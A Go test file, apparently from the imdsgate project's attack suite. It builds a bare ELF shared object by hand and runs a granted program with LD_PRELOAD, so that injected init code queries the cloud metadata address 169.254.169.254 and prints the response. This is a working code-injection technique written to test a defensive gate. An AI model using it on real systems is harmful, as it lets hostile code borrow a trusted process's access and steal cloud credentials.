package main

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"unsafe"

	"github.com/imdsgate/imdsgate/test/attacks/ask"
)

// preloaded is what the library of the attacker does in the program that loads it:
// it asks, copies the answer to standard output, and ends. It is never called
// here; its code makes the library (preload_amd64.s, preload_arm64.s).
func preloaded()

var _ = preloaded

// preloadedAt is where the code is.
func preloadedAt() uintptr

const (
	codeSize  = 512 // and then struct wanted, to which the code has a pointer
	codeAt    = 512
	bufferEnd = 16 << 10
)

// preload runs a program with a grant that loads the attacker's library.
func preload(args []string) error {
	f, err := os.CreateTemp(os.TempDir(), "imdsgate-attacks-*.so")
	if err != nil {
		return err
	}
	defer os.Remove(f.Name())
	if _, err := f.Write(library()); err != nil {
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	cmd := exec.Command(args[0])
	cmd.Env = append(os.Environ(), "LD_PRELOAD="+f.Name())
	ready()
	out, err := cmd.Output()
	if err != nil {
		return fmt.Errorf("%s: %w", args[0], err)
	}
	ask.ReadBy(bytes.NewReader(out).Read).Tell()
	return nil
}

// library is a shared object with one initialization function and nothing else
// (elf(5), ld.so(8)).
func library() []byte {
	machine := map[string]elf.Machine{"amd64": elf.EM_X86_64, "arm64": elf.EM_AARCH64}[runtime.GOARCH]
	request := strings.Replace(string(ask.Mine()), "keep-alive", "close", 1)
	code := unsafe.Slice((*byte)(pointer(preloadedAt())), codeSize)
	const size = codeAt + codeSize + 2048

	const headers, dynamics = 64 + 2*56, 6
	dynamic := []elf.Dyn64{
		{Tag: int64(elf.DT_INIT), Val: codeAt}, {Tag: int64(elf.DT_STRTAB), Val: headers + dynamics*16}, {Tag: int64(elf.DT_SYMTAB), Val: headers + dynamics*16},
		{Tag: int64(elf.DT_STRSZ), Val: 1}, {Tag: int64(elf.DT_SYMENT), Val: 24}, {Tag: int64(elf.DT_NULL)},
	}
	var b bytes.Buffer
	put := func(v any) { binary.Write(&b, binary.LittleEndian, v) }
	put(elf.Header64{
		Ident: [16]byte{0x7f, 'E', 'L', 'F', byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), byte(elf.EV_CURRENT)},
		Type:  uint16(elf.ET_DYN), Machine: uint16(machine), Version: 1, Phoff: 64, Ehsize: 64, Phentsize: 56, Phnum: 2,
	})
	put(elf.Prog64{Type: uint32(elf.PT_LOAD), Flags: uint32(elf.PF_R | elf.PF_W | elf.PF_X), Filesz: size, Memsz: bufferEnd, Align: 64 << 10})
	put(elf.Prog64{Type: uint32(elf.PT_DYNAMIC), Flags: uint32(elf.PF_R | elf.PF_W), Off: headers, Vaddr: headers, Filesz: dynamics * 16, Memsz: dynamics * 16, Align: 8})
	put(dynamic)
	b.Write(make([]byte, codeAt-b.Len()))
	b.Write(code)
	// struct wanted: the address as connect(2) wants it, a length and so many bytes.
	put([16]byte{2, 0, 0, 80, 169, 254, 169, 254})
	put(uint64(len(request)))
	b.WriteString(request)
	b.Write(make([]byte, size-b.Len()))
	return b.Bytes()
}
